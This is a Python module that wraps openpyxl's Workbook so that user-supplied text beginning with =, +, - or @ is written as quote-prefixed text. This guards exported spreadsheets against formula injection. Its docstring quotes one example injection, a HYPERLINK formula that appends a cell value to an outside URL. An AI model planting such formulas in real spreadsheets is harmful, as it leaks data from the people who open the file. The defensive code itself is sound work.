"""Every workbook the system writes: a `Workbook` whose text can never run as a formula.

A cell text beginning with = + - @ is data someone typed (an investor's name, a note), not a
formula: left as it is, `=HYPERLINK("http://…"&B3, "详情")` planted through the API would run in
the office's Excel (SPEC §16). `Workbook` writes such text as text, with Excel's quote prefix so
that it stays text when a person edits the cell. Builders create workbooks with this class, never
openpyxl's own (a test holds it); the system writes no formulas of its own.
"""
import io

import openpyxl
from django.http import FileResponse
from openpyxl.cell import Cell, WriteOnlyCell
from openpyxl.styles.cell_style import StyleArray
from openpyxl.worksheet._write_only import WriteOnlyWorksheet

XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMULA_STARTS = ("=", "+", "-", "@")


def as_text(cell):
    """Make `cell` text if its value is text that a spreadsheet would read as a formula."""
    value = cell.value
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        cell.data_type = "s"
        if not cell._style:
            cell._style = StyleArray()
        cell._style.quotePrefix = 1
    return cell


class _TextOnlySheet(WriteOnlyWorksheet):
    """A streamed sheet (write-only mode) whose appended rows pass through `as_text`."""

    def append(self, row):
        super().append([as_text(v if isinstance(v, Cell) else WriteOnlyCell(self, value=v))
                        if isinstance(v, (str, Cell)) else v for v in row])


class Workbook(openpyxl.Workbook):
    def create_sheet(self, title=None, index=None):
        if not self.write_only:
            return super().create_sheet(title, index)
        sheet = _TextOnlySheet(parent=self, title=title)
        self._add_sheet(sheet=sheet, index=index)
        return sheet

    def save(self, filename):
        if not self.write_only:  # a streamed sheet checked its rows as they came
            for sheet in self.worksheets:
                for cell in getattr(sheet, "_cells", {}).values():  # the cells that exist
                    as_text(cell)
        super().save(filename)


def workbook_bytes(workbook):
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def workbook_response(workbook, filename):
    return FileResponse(io.BytesIO(workbook_bytes(workbook)), as_attachment=True, filename=filename,
                        content_type=XLSX_CONTENT_TYPE)
